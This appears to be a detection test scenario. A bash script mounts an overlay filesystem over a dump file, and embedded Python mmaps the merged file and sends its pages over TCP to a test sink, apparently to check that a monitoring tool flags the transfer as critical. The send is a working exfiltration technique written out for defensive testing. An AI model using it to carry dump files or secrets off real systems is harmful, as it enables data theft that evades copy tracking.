#!/bin/bash
# B-overlay-mmap: a container maps the dump, which lies in a layer below and is never copied up.
# flow: open and mmap of the merged file, whose pages are those of the file below; send.
# tools: mount python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
! grep -q '^overlay ' /proc/modules || from_linux 5.11
mkdir upper work merged
mount -t overlay overlay -o "lowerdir=$W/dumps,upperdir=$W/upper,workdir=$W/work" merged || skip "no overlay here"
undo "umount '$W/merged'"
sink tcp
python3 - "merged/$(basename "$D")" "$SINK" "$PORT" <<'CODE' || fail "mmap"
import mmap, socket, sys
with open(sys.argv[1], "rb", 0) as dump:
    pages = mmap.mmap(dump.fileno(), 0, prot=mmap.PROT_READ)
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(pages)
CODE
sunk "$(stat -c %s "$D")"
